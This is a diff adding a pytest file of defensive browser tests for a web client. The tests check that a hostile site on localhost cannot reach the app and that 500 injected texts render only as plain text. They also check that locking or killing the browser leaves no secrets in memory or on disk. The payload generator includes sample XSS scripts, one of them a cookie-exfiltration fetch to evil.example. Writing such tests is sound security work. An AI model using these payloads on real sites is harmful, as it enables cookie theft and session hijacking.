@@ -1,0 +1,228 @@
+"""What hostile web sites and hostile texts get of a page in the same browser: nothing."""
+
+from __future__ import annotations
+
+import http.server
+import os
+import signal
+import threading
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from taboon_client.board import Details, Line, Need
+from taboon_client.page.render import visible
+from tests.page.browsing import Person, start_with_profile
+from tests.page.seeding import founded
+from tests.page.test_gate import state_of
+from tests.support import PASSPHRASE
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from playwright.sync_api import Browser, Playwright
+
+    from taboon_client.blocking import Group
+    from taboon_crypto.slots import Cost
+    from tests.page.conftest import MakePerson
+    from tests.relay_process import RelayProcess
+
+CANARY = "xylophone-canary-5521"
+
+HERE = Path(__file__).parent
+NO_ELEMENTS = "#page :is(script,img,iframe,object,embed,style,link,base,meta,video,template,math,marquee,table,body)"
+
+
+@pytest.fixture
+def evil_site() -> Iterator[tuple[str, dict[str, str]]]:
+    """A web site on another port of the same machine, and what it shows by path."""
+    shown: dict[str, str] = {}
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = shown.get(self.path, "").encode()
+            self.send_response(200 if body else 404)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", shown
+    server.shutdown()
+    server.server_close()
+
+
+def test_a_hostile_site_in_the_same_browser_gets_no_answer_and_changes_nothing(
+    person: MakePerson, evil_site: tuple[str, dict[str, str]]
+) -> None:
+    amal = person("amal")
+    site, shown = evil_site
+    shown["/evil"] = (HERE / "evil.html").read_text("utf-8").replace("PORT", str(amal.process.port))
+    before = state_of(amal.folder)
+    evil = amal.page.context.new_page()
+    amal.watched = False
+    evil.goto(f"{site}/evil")
+    assert evil.evaluate("window.finished") == []
+    framed = [frame.url for frame in evil.frames[1:]]
+    assert all(
+        frame.evaluate("document.body.innerText") == "" for frame in evil.frames[1:] if frame.url == "about:blank"
+    )
+    assert not [url for url in framed if url.startswith(amal.process.url)]
+    assert evil.evaluate("document.cookie") == ""
+    evil.close()
+    assert amal.page.evaluate("document.cookie") == ""
+    assert state_of(amal.folder) == before
+    amal.press("Settings")
+    amal.sees("Change the passphrase")
+
+
+def test_a_link_from_elsewhere_opens_the_constant_shell_and_keeps_no_hold_on_it(
+    person: MakePerson, evil_site: tuple[str, dict[str, str]]
+) -> None:
+    amal = person("amal")
+    site, shown = evil_site
+    shown["/evil"] = "<!doctype html><title>evil</title>"
+    amal.watched = False
+    evil = amal.page.context.new_page()
+    evil.goto(f"{site}/evil")
+    with evil.context.expect_page() as opened:
+        evil.evaluate(f"window.held = window.open('{amal.process.url}'), 0")
+    opened.value.get_by_label("Code").wait_for()
+    assert evil.evaluate("window.held.closed")
+    assert opened.value.evaluate("window.opener") is None
+
+
+def _payloads() -> list[str]:
+    """Five hundred texts that some page, somewhere, has carried out."""
+    scripts = [
+        *("alert(1)", "fetch('//evil.example/'+document.cookie)", "document.title='x'", "print()"),
+        "top.location='//evil.example'",
+    ]
+    forms = [line.encode().decode("unicode_escape") for line in (HERE / "payloads.txt").read_text("ascii").splitlines()]
+    found = [form.replace("CODE", script) for form in forms for script in scripts]
+    found += [f"{one} {'<b>' * (at % 5)}" for at, one in enumerate(found)]
+    return [one[:130] for one in found][:500]
+
+
+def test_nothing_that_members_write_is_ever_more_than_text(
+    browser: Browser, relay: RelayProcess, tmp_path: Path, fast_kdf: Cost
+) -> None:
+    payloads = _payloads()
+    assert len(payloads) == 500
+
+    def fill(group: Group) -> None:
+        posts = []
+        for at, text in enumerate(payloads):
+            need = Need(
+                title=text,
+                created=0,
+                note=text,
+                original=f"original {text}",
+                area=text[:64],
+                category=text[:32],
+                tags=(text[:32],),
+                urgency_reason=text,
+                lines=(Line(quantity=2, unit=text[:32], name=text[:80]),),
+            )
+            details = Details(names=text, place=text, access=text, note=text)
+            posts.append((f"key {at}", need, details))
+        group.post_all(posts)
+        for item in group.board()[:3]:
+            group.comment(item, item.title)
+            group.pledge(item)
+            group.follow_up(item, 1_900_000_000, item.title)
+
+    folder = tmp_path / "vault"
+    founded(folder, relay.url, payloads[0][:60], payloads[1][:40], fill)
+    amal = Person(browser, folder)
+    try:
+        amal.unlock()
+        amal.sees("Post a need")
+        ours = amal.page.evaluate(
+            "document.querySelectorAll('#page script, #page img, #page iframe, #page style').length"
+        )
+        assert ours == 0
+        seen: set[str] = set()
+        for page in range(25):
+            amal.goes_to(f"/board?g={amal.group_code()}&page={page}")
+            amal.reads(amal.say("%(page)s of %(pages)s", page=page + 1, pages=25))
+            assert amal.page.locator(NO_ELEMENTS).count() == 0
+            seen.update(amal.page.locator(".card h2 bdi").all_text_contents())
+        assert seen == {visible(text) for text in payloads}
+        amal.page.locator(".card h2 a").first.click()
+        amal.sees("Said about it")
+        assert amal.page.locator(NO_ELEMENTS).count() == 0
+        amal.press("Open the sealed details")
+        amal.sees("Hide them")
+        assert amal.page.evaluate("document.querySelectorAll('#shown :is(script,img,iframe,a,form,b)').length") == 0
+        assert amal.page.title() == "Taboon"
+    finally:
+        amal.close()
+    assert amal.faults == []
+
+
+def test_a_text_that_overrides_direction_moves_nothing_around_it() -> None:
+    assert visible("a\u202eb\u2066c\u202c\x1b[31m") == "abc[31m"
+    assert visible("سلام\u200cها") == "سلام\u200cها"
+
+
+def test_lock_on_the_page_and_lock_from_elsewhere_leave_nothing_on_the_screen(
+    person: MakePerson, relay: RelayProcess
+) -> None:
+    amal = person("amal")
+    amal.found_group(relay.url, CANARY, "Amal")
+    amal.reads(CANARY)
+    amal.press("Lock")
+    amal.sees("The passphrase opens the vault on this device.")
+    assert CANARY not in amal.page.content()
+    amal.unlock()
+    amal.reads(CANARY)
+    amal.lock_elsewhere()
+    amal.sees("The passphrase opens the vault on this device.")
+    assert CANARY not in amal.page.content()
+    amal.page.go_back()
+    amal.sees("The passphrase opens the vault on this device.")
+    assert CANARY not in amal.page.content()
+    amal.faults.clear()
+
+
+def test_a_killed_page_blanks_too(person: MakePerson, relay: RelayProcess) -> None:
+    amal = person("amal")
+    amal.found_group(relay.url, CANARY, "Amal")
+    amal.reads(CANARY)
+    amal.watched = False
+    os.kill(amal.process.pid, signal.SIGTERM)
+    amal.page.get_by_label("Code").wait_for()
+    assert CANARY not in amal.page.content()
+    amal.faults.clear()
+
+
+def test_a_browser_that_is_killed_leaves_nothing_of_the_vault_in_its_profile(
+    playwright: Playwright, relay: RelayProcess, tmp_path: Path, fast_kdf: Cost
+) -> None:
+    profile = tmp_path / "profile"
+    person = Person(start_with_profile(playwright, profile), tmp_path / "vault")
+    person.make_vault()
+    person.found_group(relay.url, f"group-{CANARY}", f"me-{CANARY}")
+    person.press("Post a need")
+    person.fill("What is needed, in a few words", f"title-{CANARY}")
+    person.fill("The exact place", f"place-{CANARY}")
+    person.press("Post it")
+    person.sees("Posted.")
+    person.press("Open the sealed details")
+    person.reads(f"place-{CANARY}")
+    person.fill("Say something about it", f"typed-{CANARY}")
+    for process in Path("/proc").glob("[0-9]*"):
+        if str(profile).encode() in (process / "cmdline").read_bytes():
+            os.kill(int(process.name), signal.SIGKILL)
+    person.process.close()
+    held = b"".join(path.read_bytes() for path in profile.rglob("*") if path.is_file())
+    assert b"127.0.0.1" in held
+    for secret in (CANARY, PASSPHRASE):
+        assert secret.encode() not in held
+        assert secret.encode("utf-16-le") not in held
